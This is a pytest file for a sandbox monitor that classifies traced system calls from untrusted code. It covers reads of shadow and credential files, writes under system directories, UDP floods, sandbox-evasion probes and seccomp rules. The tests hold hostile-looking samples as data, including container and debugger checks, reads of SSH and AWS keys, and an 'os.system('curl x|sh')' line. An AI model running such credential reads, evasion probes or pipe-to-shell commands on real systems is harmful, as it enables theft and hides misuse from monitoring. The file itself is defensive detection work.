"""Naming what happened (issue 9, item 4), on synthetic strace lines and events: normalised paths and links,
reads that map the machine, listings, writes where the system lives, UDP floods, evasion, the seccomp
profile, and the verdict of a run that hit its deadline. Each rule has its benign neighbours beside it."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from codeeval.execution import seccomp
from codeeval.execution.behaviours import LONG_SLEEP_S, classify, verdict
from codeeval.execution.monitor import normalise, parse_audit, parse_strace
from codeeval.types import Behaviour, Event, Severity

PY = "/usr/bin/python3"


def trace(*calls: str, pid: int = 10) -> list[str]:
    """strace -f -tt lines for calls written as `name(args) = result`."""
    return [f"{pid} 10:00:00.{i:06d} {c}" for i, c in enumerate(calls)]


def events(*calls: str, cwd: str = "/work") -> list[Event]:
    return parse_strace(trace(f'execve("{PY}", ["python3", "sample.py"], 0x7ffc /* 6 vars */) = 0', *calls), cwd=cwd)


def found(evs: list[Event], **run) -> dict[str, Behaviour]:
    return {b.id: b for b in classify(evs, **run)}


def opened(evs: list[Event]) -> list[str]:
    return [e.detail["path"] for e in evs if e.kind == "open"]


def ev(kind: str, pid: int = 10, source: str = "strace", **detail) -> Event:
    return Event(kind, detail, pid, source)


# ------------------------------------------------------------------ paths
@pytest.mark.parametrize(("raw", "want"), [
    ("/usr/../etc/shadow", "/etc/shadow"),
    ("//etc//shadow", "/etc/shadow"),
    ("/etc/./ssh/../shadow", "/etc/shadow"),
    ("/tmp/a/b/../../../etc/passwd", "/etc/passwd"),
    ("/etc/shadow/", "/etc/shadow"),
    ("/work/notes.txt", "/work/notes.txt"),
])
def test_paths_are_normalised(raw, want):
    assert normalise(raw) == want


def test_dotdot_shadow_is_read_of_shadow():
    evs = events('openat(AT_FDCWD, "/usr/../etc/shadow", O_RDONLY|O_CLOEXEC) = -1 EACCES (Permission denied)')
    assert opened(evs) == ["/etc/shadow"]
    assert found(evs)["filesystem.sensitive_read"].severity == Severity.HIGH


def test_noise_prefix_does_not_hide_a_climb_out_of_it():
    evs = events('openat(AT_FDCWD, "/usr/lib/python3.11/../../../etc/shadow", O_RDONLY) = -1 EACCES (Permission denied)')
    assert opened(evs) == ["/etc/shadow"]


def test_relative_paths_follow_cwd_chdir_fchdir_and_dir_fds():
    evs = events(
        'openat(AT_FDCWD, "../etc/shadow", O_RDONLY) = -1 EACCES (Permission denied)',
        'chdir("/etc") = 0',
        'openat(AT_FDCWD, "gshadow", O_RDONLY) = -1 EACCES (Permission denied)',
        'openat(AT_FDCWD, "/root", O_RDONLY|O_DIRECTORY) = 3',
        'fchdir(3) = 0',
        'openat(AT_FDCWD, ".bash_history", O_RDONLY) = -1 EACCES (Permission denied)',
        'openat(AT_FDCWD, "/etc/ssh", O_RDONLY|O_DIRECTORY) = 4',
        'openat(4, "../sudoers", O_RDONLY) = -1 EACCES (Permission denied)',
    )
    assert opened(evs) == ["/etc/shadow", "/etc/gshadow", "/root", "/root/.bash_history", "/etc/ssh", "/etc/sudoers"]


def test_a_symlink_to_a_honeytoken_is_read_as_the_honeytoken():
    evs = events(
        'symlinkat("/home/sandbox/.ssh/id_rsa", AT_FDCWD, "key.txt") = 0',
        'openat(AT_FDCWD, "key.txt", O_RDONLY|O_CLOEXEC) = 3',
    )
    read = next(e for e in evs if e.kind == "open").detail
    assert (read["path"], read["via"]) == ("/home/sandbox/.ssh/id_rsa", "/work/key.txt")
    secrets = found(evs)["secrets.access"]
    assert secrets.severity == Severity.HIGH
    assert any(e.get("via") == "/work/key.txt" for e in secrets.evidence)


def test_relative_symlink_targets_and_links_to_directories():
    evs = events(
        'symlink("../home/sandbox/.aws", "/tmp/cfg") = 0',
        'openat(AT_FDCWD, "/tmp/cfg/credentials", O_RDONLY) = 3',
    )
    assert opened(evs) == ["/home/sandbox/.aws/credentials"]


def test_hard_links_and_renames_carry_the_file():
    evs = events(
        'linkat(AT_FDCWD, "/home/sandbox/.aws/credentials", AT_FDCWD, "/home/sandbox/c", 0) = 0',
        'openat(AT_FDCWD, "/home/sandbox/c", O_RDONLY) = 3',
        'rename("/home/sandbox/.ssh/id_rsa", "/home/sandbox/k") = 0',
        'openat(AT_FDCWD, "/home/sandbox/k", O_RDONLY) = 4',
    )
    assert opened(evs) == ["/home/sandbox/.aws/credentials", "/home/sandbox/.ssh/id_rsa"]


def test_a_name_unlinked_and_made_again_is_a_new_file():
    evs = events(
        'symlinkat("/home/sandbox/.ssh/id_rsa", AT_FDCWD, "k") = 0',
        'unlinkat(AT_FDCWD, "k", 0) = 0',
        'openat(AT_FDCWD, "k", O_RDONLY) = 3',
    )
    assert opened(evs) == ["/work/k"]
    assert [e.detail["path"] for e in evs if e.kind == "unlink"] == ["/work/k"]  # the link went, not the key
    assert classify(evs) == []


def test_a_link_name_reused_points_at_its_new_target():
    evs = events(
        'symlinkat("/work/a.txt", AT_FDCWD, "cur") = 0',
        'symlinkat("/home/sandbox/.ssh/id_rsa", AT_FDCWD, "cur.new") = 0',
        'rename("cur.new", "cur") = 0',
        'openat(AT_FDCWD, "cur", O_RDONLY) = 3',
    )
    assert opened(evs) == ["/home/sandbox/.ssh/id_rsa"]


def test_failed_links_and_ordinary_renames_change_nothing():
    evs = events(
        'symlinkat("/etc/shadow", AT_FDCWD, "s") = -1 EEXIST (File exists)',
        'openat(AT_FDCWD, "s", O_RDONLY) = 3',
        'rename("/work/a.txt", "/work/b.txt") = 0',
        'openat(AT_FDCWD, "/work/b.txt", O_RDONLY) = 4',
    )
    assert opened(evs) == ["/work/s", "/work/a.txt"]  # b.txt holds what a.txt held
    assert "filesystem.sensitive_read" not in found(evs)


# ------------------------------------------------------------------ reads that map the machine
def test_account_files_read_by_the_sample_are_medium_but_libc_lookups_are_low():
    read = 'openat(AT_FDCWD, "/etc/passwd", O_RDONLY|O_CLOEXEC) = 3'
    assert classify(events(read)) == []  # getpwuid() for a user name: pytest, getpass, psutil do it
    asked = events(read) + parse_audit([{"event": "open", "args": ["/etc/passwd", "r", 524288], "pid": 10}])
    assert found(asked)["filesystem.sensitive_read"].severity == Severity.MEDIUM
    named = found(events(read), sources=("print(open('/etc/passwd').read())",))
    assert named["filesystem.sensitive_read"].severity == Severity.MEDIUM
    by_tool = parse_strace(trace('execve("/usr/bin/cat", ["cat", "/etc/group"], 0x7ffc /* 6 vars */) = 0',
                                 'openat(AT_FDCWD, "/etc/group", O_RDONLY) = 3'))
    assert found(by_tool)["filesystem.sensitive_read"].severity == Severity.MEDIUM


@pytest.mark.parametrize("path", [
    "/var/log/dpkg.log", "/var/log/apt/history.log", "/proc/cmdline", "/proc/version", "/proc/net/tcp",
    "/proc/77/cmdline", "/etc/ssh/sshd_config",
])
def test_logs_config_and_other_processes_are_medium(path):
    evs = events(f'openat(AT_FDCWD, "{path}", O_RDONLY) = 3')
    assert found(evs, sources=(path,))["filesystem.sensitive_read"].severity == Severity.MEDIUM


def test_ps_listing_processes_is_low_unless_it_prints_their_environments():
    def ps(*argv: str) -> list[Event]:
        return parse_strace(trace(f'execve("/usr/bin/ps", {json.dumps(["ps", *argv])}, 0x7ffc /* 6 vars */) = 0',
                                  'openat(AT_FDCWD, "/proc/1/environ", O_RDONLY) = 4',
                                  'openat(AT_FDCWD, "/proc/1/cmdline", O_RDONLY) = 4'))
    assert max(b.severity for b in classify(ps("aux"))) == Severity.LOW
    assert max(b.severity for b in classify(ps("-ef"))) == Severity.LOW
    assert found(ps("auxe"))["filesystem.sensitive_read"].severity == Severity.HIGH
    python = events('openat(AT_FDCWD, "/proc/1/environ", O_RDONLY) = 4')
    assert found(python)["filesystem.sensitive_read"].severity == Severity.HIGH


def test_a_library_opening_config_files_is_not_the_sample_reading_them():
    scapy = events('openat(AT_FDCWD, "/etc/resolv.conf", O_RDONLY|O_CLOEXEC) = 3') + parse_audit(
        [{"event": "open", "args": ["/etc/resolv.conf", "r", 524288], "pid": 10}])
    assert classify(scapy, sources=("from scapy.all import IP\nprint(IP(dst='192.0.2.10'))",)) == []
    hidden = events('openat(AT_FDCWD, "/etc/passwd", O_RDONLY|O_CLOEXEC) = 3') + parse_audit(
        [{"event": "open", "args": ["/usr/../etc/passwd", "r", 524288], "pid": 10}])
    assert found(hidden, sources=("p = '/usr/../etc/' + 'passwd'",))["filesystem.sensitive_read"].severity == Severity.MEDIUM


def test_cgroup_reads_are_evasion_only_when_the_sample_looks_for_a_container_there():
    evs = events('openat(AT_FDCWD, "/proc/self/cgroup", O_RDONLY|O_CLOEXEC) = 3',
                 'openat(AT_FDCWD, "/proc/self/mountinfo", O_RDONLY|O_CLOEXEC) = 3')
    rust = "from cryptography.fernet import Fernet  # works in the sandbox and under docker"
    assert classify(evs, sources=(rust,)) == []
    probe = "if 'docker' in open('/proc/self/cgroup').read(): raise SystemExit"
    assert found(evs, sources=(probe,))["evasion"].severity == Severity.MEDIUM


def test_reading_input_devices_is_a_sensitive_read():
    evs = events('openat(AT_FDCWD, "/dev/input/event0", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)')
    assert found(evs)["filesystem.sensitive_read"].severity == Severity.HIGH


def test_reading_its_own_process_files_and_libc_config_is_not_named():
    own = parse_audit([{"event": "open", "args": ["/proc/13/status", "r", 524288], "pid": 13}])
    assert classify(own) == []  # psutil.Process().status() in an untraced run
    evs = events('openat(AT_FDCWD, "/proc/10/cmdline", O_RDONLY) = 3',
                 'openat(AT_FDCWD, "/etc/resolv.conf", O_RDONLY|O_CLOEXEC) = 3',
                 'openat(AT_FDCWD, "/etc/hosts", O_RDONLY|O_CLOEXEC) = 3')
    assert classify(evs) == []


@pytest.mark.parametrize("directory", ["/etc", "/root", "/var/log", "/home", "/home/sandbox/.ssh", "/etc/cron.d",
                                       "/proc/1/root"])
def test_listings_of_sensitive_directories_are_medium(directory):
    evs = events(f'openat(AT_FDCWD, "{directory}", O_RDONLY|O_NONBLOCK|O_CLOEXEC|O_DIRECTORY) = 3')
    assert opened(evs) == [directory]
    listing = found(evs)["filesystem.sensitive_read"]
    assert listing.severity == Severity.MEDIUM and listing.evidence[0]["listing"]


def test_listings_of_the_interpreter_and_work_areas_are_noise():
    evs = events(*(f'openat(AT_FDCWD, "{d}", O_RDONLY|O_NONBLOCK|O_CLOEXEC|O_DIRECTORY) = 3' for d in (
        "/usr/lib/python3.11", "/usr/lib/python3/dist-packages", "/work", "/tmp/tmpab12", "/opt/codeeval",
        "/usr/share/zoneinfo")))
    assert classify(evs) == []


# ------------------------------------------------------------------ writes where the system lives
@pytest.mark.parametrize(("call", "severity"), [
    ('openat(AT_FDCWD, "/etc/hosts", O_WRONLY|O_CREAT|O_APPEND, 0666) = -1 EROFS (Read-only file system)', Severity.MEDIUM),
    ('openat(AT_FDCWD, "/usr/bin/ls", O_WRONLY|O_CREAT|O_TRUNC, 0666) = -1 EROFS (Read-only file system)', Severity.HIGH),
    ('unlinkat(AT_FDCWD, "/usr/usrfile.txt", 0) = -1 EROFS (Read-only file system)', Severity.HIGH),
    ('mkdir("/root/.hidden", 0777) = -1 EACCES (Permission denied)', Severity.MEDIUM),
    ('rename("/etc/hostname", "/tmp/h") = -1 EROFS (Read-only file system)', Severity.HIGH),
    ('chown("/etc/passwd", 10001, 10001) = -1 EPERM (Operation not permitted)', Severity.MEDIUM),
    ('symlinkat("/tmp/evil", AT_FDCWD, "/usr/local/bin/ls") = -1 EROFS (Read-only file system)', Severity.MEDIUM),
])
def test_writes_under_system_directories_are_named_even_when_denied(call, severity):
    assert found(events(call))["filesystem.destructive"].severity == severity


def test_writes_in_the_work_area_tmp_home_and_dev_null_are_not_named():
    evs = events(
        'openat(AT_FDCWD, "/work/out.txt", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3',
        'openat(AT_FDCWD, "/tmp/x/y.json", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3',
        'mkdir("/home/sandbox/.cache/app", 0777) = 0',
        'openat(AT_FDCWD, "/dev/null", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3',
        'symlinkat("/usr/lib/python3.11", AT_FDCWD, "/work/lib") = 0',
        'openat(AT_FDCWD, "/var/log/myapp.log", O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC, 0666) = -1 EACCES (Permission denied)',
    )
    assert classify(evs) == []


# ------------------------------------------------------------------ UDP floods
def udp_sends(n: int, port: int = 9, size: int = 512) -> list[Event]:
    return events('socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC, IPPROTO_IP) = 3', *(
        f'sendto(3, "\\x00\\x00"..., {size}, 0, {{sa_family=AF_INET, sin_port=htons({port}), '
        f'sin_addr=inet_addr("10.0.0.7")}}, 16) = -1 ENETUNREACH (Network is unreachable)' for _ in range(n)))


def test_many_datagrams_are_a_flood():
    evs = udp_sends(150)
    assert evs[-1].detail["proto"] == "udp" and evs[-1].detail["bytes"] == 512
    flood = found(evs)["network.flood"]
    assert flood.severity == Severity.MEDIUM
    assert flood.evidence[0]["datagrams"] == 150 and flood.evidence[0]["targets"] == {"10.0.0.7:9": 150}
    assert found(udp_sends(1200))["network.flood"].severity == Severity.HIGH
    assert found(udp_sends(3, size=8 << 20))["network.flood"].severity == Severity.HIGH


def test_sendmmsg_counts_every_datagram():
    evs = events('socket(AF_INET, SOCK_DGRAM, IPPROTO_IP) = 3',
                 'sendmmsg(3, [{msg_hdr={msg_name={sa_family=AF_INET, sin_port=htons(123), sin_addr=inet_addr("10.1.1.1")}, '
                 'msg_namelen=16, msg_iov=[{iov_base="\\x17\\x00\\x03\\x2a", iov_len=4}], msg_iovlen=1, msg_controllen=0, '
                 'msg_flags=0}, msg_len=4}], 1024, 0) = 1024')
    assert found(evs)["network.flood"].evidence[0]["datagrams"] == 1024


def test_a_few_datagrams_dns_and_tcp_are_not_a_flood():
    assert "network.flood" not in found(udp_sends(20))
    assert "network.flood" not in found(udp_sends(500, port=53))
    tcp = events('socket(AF_INET, SOCK_STREAM, IPPROTO_IP) = 3', *(
        'sendto(3, "GET / HTTP/1.1"..., 512, 0, {sa_family=AF_INET, sin_port=htons(80), '
        'sin_addr=inet_addr("127.0.0.1")}, 16) = 512' for _ in range(300)))
    assert "network.flood" not in found(tcp)


# ------------------------------------------------------------------ evasion
def test_reading_tracerpid_is_evasion():
    evs = events('openat(AT_FDCWD, "/proc/self/status", O_RDONLY|O_CLOEXEC) = 3')
    assert evs[-1].detail["path"] == "/proc/self/status", "kept although /proc/self/ is noise"
    looked = found(evs, sources=("if 'TracerPid:\\t0' not in open('/proc/self/status').read(): exit()",))
    assert looked["evasion"].severity == Severity.MEDIUM
    assert classify(evs) == []  # memory figures are read from there too


@pytest.mark.parametrize("path", ["/.dockerenv", "/proc/1/cgroup", "/sys/class/dmi/id/product_name", "/proc/scsi/scsi",
                                  "/sys/hypervisor/type"])
def test_sandbox_and_vm_probes_are_evasion(path):
    assert found(events(f'openat(AT_FDCWD, "{path}", O_RDONLY) = -1 ENOENT (No such file or directory)'))[
        "evasion"].severity == Severity.MEDIUM


def test_cpuinfo_is_evasion_only_when_the_sample_looks_for_the_hypervisor_flag():
    evs = events('openat(AT_FDCWD, "/proc/cpuinfo", O_RDONLY) = 3')
    assert found(evs, sources=("'hypervisor' in open('/proc/cpuinfo').read()",))["evasion"].severity == Severity.MEDIUM
    assert classify(evs, sources=("psutil.cpu_count(logical=False)",)) == []


def test_looking_for_a_debugger_process_is_evasion():
    evs = parse_strace(trace('execve("/usr/bin/pgrep", ["pgrep", "-x", "strace"], 0x7ffc /* 6 vars */) = 0'))
    assert found(evs)["evasion"].severity == Severity.MEDIUM
    ps = parse_strace(trace('execve("/usr/bin/ps", ["ps", "aux"], 0x7ffc /* 6 vars */) = 0'))
    assert "evasion" not in found(ps)
    scan = events('openat(AT_FDCWD, "/proc/77/comm", O_RDONLY|O_CLOEXEC) = 3')
    hunt = "for p in psutil.process_iter(['name']):\n    if p.info['name'] in ('strace', 'gdb'): sys.exit()"
    assert found(scan, sources=(hunt,))["evasion"].severity == Severity.MEDIUM
    assert "evasion" not in found(scan, sources=("for p in psutil.process_iter(['name']): print(p)",))


def test_udp_datagrams_caught_by_the_fake_internet_count_too():
    from codeeval.execution.monitor import parse_sink

    caught = parse_sink([{"port": 27015, "proto": "udp", "host": "203.0.113.9", "bytes": 1024, "peer": "x"}] * 150)
    assert caught[0].detail["host"] == "203.0.113.9"
    assert found(caught)["network.flood"].evidence[0]["targets"] == {"203.0.113.9:27015": 150}


@pytest.mark.parametrize(("argv", "named"), [
    (["sleep", "3600"], True), (["sleep", "1h"], True), (["sleep", "infinity"], True), (["sleep", "20", "15"], True),
    (["sleep", "2"], False), (["sleep", "0.5"], False),
])
def test_long_sleeps_are_evasion(argv, named):
    line = f'execve("/usr/bin/sleep", {json.dumps(argv)}, 0x7ffc /* 6 vars */) = 0'
    assert ("evasion" in found(parse_strace(trace(line)))) is named


def test_long_sleep_syscalls_and_cut_sleeps_are_evasion():
    evs = events('clock_nanosleep(CLOCK_REALTIME, 0, {tv_sec=600, tv_nsec=0}, 0x7ffe) = 0')
    assert evs[-1].detail["seconds"] == 600
    assert found(evs)["evasion"].severity == Severity.MEDIUM
    select = events('select(0, NULL, NULL, NULL, {tv_sec=120, tv_usec=0}) = 0 (Timeout)')
    assert "evasion" in found(select)
    short = events('clock_nanosleep(CLOCK_REALTIME, 0, {tv_sec=2, tv_nsec=0}, 0x7ffe) = 0',
                   'poll([{fd=3, events=POLLIN}], 1, 60000) = 0 (Timeout)')  # waiting on a socket: not a sleep
    assert "evasion" not in found(short)
    cut = parse_audit([{"event": "codeeval.sleep", "args": [3600.0, "time.sleep"], "pid": 10}])
    assert found(cut)["evasion"].evidence[0]["seconds"] == 3600.0
    assert classify(parse_audit([{"event": "codeeval.sleep", "args": [LONG_SLEEP_S / 2, "time.sleep"]}])) == []


def test_trapped_io_uring_is_evasion_and_trapped_unshare_is_an_escape_attempt():
    evs = events('--- SIGSYS {si_signo=SIGSYS, si_code=SYS_SECCOMP, si_call_addr=0x7f2e, '
                 'si_syscall=__NR_io_uring_setup, si_arch=AUDIT_ARCH_X86_64} ---', '+++ killed by SIGSYS +++')
    assert evs[1].detail["syscall"] == "io_uring_setup"
    evasion = found(evs)["evasion"]
    assert evasion.severity == Severity.MEDIUM and evasion.evidence[0]["blocked"] == "seccomp"
    escape = events('--- SIGSYS {si_signo=SIGSYS, si_code=SYS_SECCOMP, si_call_addr=0x7f2e, '
                    'si_syscall=__NR_unshare, si_arch=AUDIT_ARCH_X86_64} ---')
    assert found(escape)["container.escape_attempt"].severity == Severity.CRITICAL


def test_evasion_with_something_malicious_is_high():
    evs = events('openat(AT_FDCWD, "/.dockerenv", O_RDONLY) = -1 ENOENT (No such file or directory)',
                 'openat(AT_FDCWD, "/etc/shadow", O_RDONLY) = -1 EACCES (Permission denied)')
    evasion = found(evs)["evasion"]
    assert evasion.severity == Severity.HIGH
    assert evasion.evidence[0] == {"event": "combined", "with": ["filesystem.sensitive_read"]}


# ------------------------------------------------------------------ verdict
def test_a_timed_out_run_with_nothing_above_low_is_incomplete_not_clean():
    idle = classify([], timed_out=True, duration_s=5.0, cpu_s=0.1)
    assert [b.id for b in idle] == ["resource.cpu"] and idle[0].severity == Severity.LOW
    assert verdict(idle) == "incomplete"
    assert verdict(classify([], timed_out=False)) == "clean"
    busy = classify([], timed_out=True, duration_s=5.0, cpu_s=4.9)
    assert verdict(busy) == "suspicious"
    host = classify([ev("host_timeout", None, "host")])
    assert verdict(host) != "clean"


def test_vet_warns_on_a_run_that_hit_its_deadline():
    from codeeval.policy import load_policy
    from codeeval.vet import decide

    verdict_, reasons = decide([], [], load_policy(None), exec_timed_out=True)
    assert verdict_ == "warn" and reasons[0].id == "incomplete"
    assert decide([], [], load_policy(None))[0] == "allow"


# ------------------------------------------------------------------ seccomp profile
def test_seccomp_profile_traps_io_uring_and_keeps_dockers_denials():
    profile = json.loads(seccomp.profile_text())
    by_action: dict[str, set[str]] = {}
    for rule in profile["syscalls"]:
        if not rule.get("args"):
            by_action.setdefault(rule["action"], set()).update(rule["names"])
    allowed = by_action["SCMP_ACT_ALLOW"]
    assert {"io_uring_setup", "io_uring_enter", "io_uring_register", "unshare", "mount", "setns", "bpf"} <= \
        by_action["SCMP_ACT_TRAP"]
    assert {"keyctl", "add_key", "perf_event_open", "userfaultfd", "kexec_load", "reboot", "swapon"} & allowed == set()
    assert {"ptrace", "execve", "openat", "read", "wait4", "clone"} - allowed == {"clone"}  # strace needs ptrace
    assert profile["defaultAction"] == "SCMP_ACT_ERRNO" and profile["defaultErrnoRet"] == 38  # ENOSYS: libc falls back
    clone = [r for r in profile["syscalls"] if r["names"] == ["clone"] and r["action"] == "SCMP_ACT_ALLOW"]
    assert clone[0]["args"][0]["value"] == 0x7E020000  # no namespace flags


def test_shipped_seccomp_profile_is_what_build_gives():
    shipped = json.loads(seccomp.profile_text())
    names = {n for rule in shipped["syscalls"] for n in rule["names"]}
    assert seccomp.build(names) == shipped
    assert seccomp.security_opt().startswith('seccomp={"defaultAction"')


# ------------------------------------------------------------------ sleeps cut short
SANDBOX = Path(__file__).resolve().parents[2] / "sandbox"


def test_the_shell_sleep_wrapper_cuts_long_sleeps_and_keeps_short_ones():
    started = time.monotonic()
    subprocess.run([str(SANDBOX / "bin" / "sleep"), "3600"], check=True, timeout=10)
    subprocess.run([str(SANDBOX / "bin" / "sleep"), "1h", "2m"], check=True, timeout=10)
    assert time.monotonic() - started < 2
    started = time.monotonic()
    subprocess.run([str(SANDBOX / "bin" / "sleep"), "0.3"], check=True, timeout=10)
    assert time.monotonic() - started >= 0.3
    assert subprocess.run([str(SANDBOX / "bin" / "sleep"), "--version"], capture_output=True, text=True,
                          check=True).stdout.startswith("sleep")


def test_sitecustomize_cuts_python_sleeps_and_records_what_was_asked(tmp_path):
    code = (
        "import asyncio, threading, time\n"
        "t = time.monotonic()\n"
        "time.sleep(3600)\n"
        "asyncio.run(asyncio.sleep(600))\n"
        "timer = threading.Timer(900, lambda: None); timer.start(); timer.join()\n"
        "time.sleep(0.2)\n"
        "print(round(time.monotonic() - t, 1))\n"
    )
    audit = tmp_path / "audit.jsonl"
    with open(audit, "wb") as fh:
        out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30, check=True,
                             pass_fds=(fh.fileno(),),
                             env={"PYTHONPATH": str(SANDBOX), "CODEEVAL_AUDIT_FD": str(fh.fileno()), "PATH": "/usr/bin:/bin"})
    assert 0.2 <= float(out.stdout) < 5
    cut = [r for r in map(json.loads, audit.read_text().splitlines()) if r["event"] == "codeeval.sleep"]
    assert [r["args"] for r in cut] == [[3600.0, "time.sleep"], [600.0, "asyncio.sleep"], [900.0, "threading.Timer"]]
    assert found(parse_audit(cut))["evasion"].severity == Severity.MEDIUM


def test_udp_datagrams_seen_by_the_trace_and_caught_by_the_sink_count_once():
    """60 datagrams, each seen as a traced sendto and again as a caught datagram, stay under the flood line."""
    caught = [Event("sink", {"proto": "udp", "port": 9, "bytes": 512, "dst": "198.51.100.1:9"}, None, "sink")
              for _ in range(60)]
    assert "network.flood" not in found(udp_sends(60) + caught)
    assert "network.flood" in found(udp_sends(60) + caught * 2)  # 120 caught: the larger count speaks


def test_caught_udp_payloads_become_sink_events():
    from codeeval.execution.monitor import parse_result

    events = parse_result({"udp": [{"dst": "198.51.100.1:9", "port": 9, "bytes": 3, "payload_b64": "YWJj"}]})
    assert [(e.kind, e.detail["proto"], e.detail["port"]) for e in events] == [("sink", "udp", 9)]


def test_an_absolute_deadline_sleep_is_not_read_as_a_duration():
    """Python's time.sleep(0.5) is clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, {tv_sec=6033, ...}): the
    seconds are a clock reading, not a wait (it flagged every sleeping program as evasion)."""
    from codeeval.execution.monitor import parse_strace

    line = ('7 12:00:00.000000 clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, {tv_sec=6033, tv_nsec=700000000}, '
            'NULL) = 0')
    assert [e for e in parse_strace([line]) if e.kind == "sleep"] == []
    relative = '7 12:00:00.000000 clock_nanosleep(CLOCK_REALTIME, 0, {tv_sec=3600, tv_nsec=0}, 0x7ffd) = 0'
    assert [e.detail["seconds"] for e in parse_strace([relative]) if e.kind == "sleep"] == [3600.0]


def test_a_compiled_type_annotation_is_not_obfuscation():
    """pydantic compiles `Literal['utf8', 'base64', 'hex']`: the marker word is data inside a string."""
    from codeeval.execution.behaviours import _inert_expression

    assert _inert_expression("Literal['utf8', 'base64', 'hex']")
    assert _inert_expression("Optional[Dict[str, List[int]]]")
    assert not _inert_expression("__import__('base64').b64decode('aWQ=')")
    assert not _inert_expression("import os")  # a statement, not an expression


def test_the_sink_payload_running_is_download_execute_and_aws_sdk_reading_its_file_is_not_high():
    from codeeval.execution.behaviours import SINK_PAYLOAD_MARK, RunInfo, classify
    from codeeval.execution.honeytokens import generate

    ran = classify([], None, RunInfo(stdout=f"{SINK_PAYLOAD_MARK}\n", sources=("import os\nos.system('curl x|sh')",)))
    assert {b.id: b.severity for b in ran}["download_execute"] == Severity.CRITICAL
    written = classify([], None, RunInfo(stdout=f"{SINK_PAYLOAD_MARK}\n", sources=(f"print('{SINK_PAYLOAD_MARK}')",)))
    assert "download_execute" not in {b.id for b in written}  # printed by the sample itself
    tokens = generate()
    read = [Event("open", {"path": tokens.paths["aws_credentials"], "flags": "O_RDONLY"}, 5, "strace"),
            Event("open", {"path": tokens.paths["aws_credentials"].replace("credentials", "config"), "flags": "O_RDONLY"}, 5, "strace")]
    sdk = {b.id: b.severity for b in classify(read, tokens, RunInfo(sources=("import boto3\ns3 = boto3.client('s3')",)))}
    named = {b.id: b.severity for b in classify(read, tokens, RunInfo(sources=("open('/home/sandbox/.aws/credentials')",)))}
    assert sdk.get("secrets.access") == Severity.LOW and named["secrets.access"] == Severity.HIGH


def test_a_flask_app_loading_dotenv_and_the_debugger_reading_the_machine_id_are_library_habits():
    from codeeval.execution.behaviours import RunInfo, classify
    from codeeval.execution.honeytokens import generate

    tokens = generate()
    events = [Event("open", {"path": tokens.paths["dotenv"], "flags": "O_RDONLY"}, 5, "strace"),
              Event("open", {"path": "/etc/machine-id", "flags": "O_RDONLY"}, 5, "strace")]
    app = {b.id: b.severity for b in classify(events, tokens, RunInfo(sources=("from flask import Flask\napp = Flask(__name__)",)))}
    assert app.get("secrets.access") == Severity.LOW and "filesystem.sensitive_read" not in app
    plain = {b.id: b.severity for b in classify(events, tokens, RunInfo(sources=("print(open('/etc/machine-id').read())",)))}
    assert plain["filesystem.sensitive_read"] == Severity.MEDIUM and plain["secrets.access"] == Severity.MEDIUM
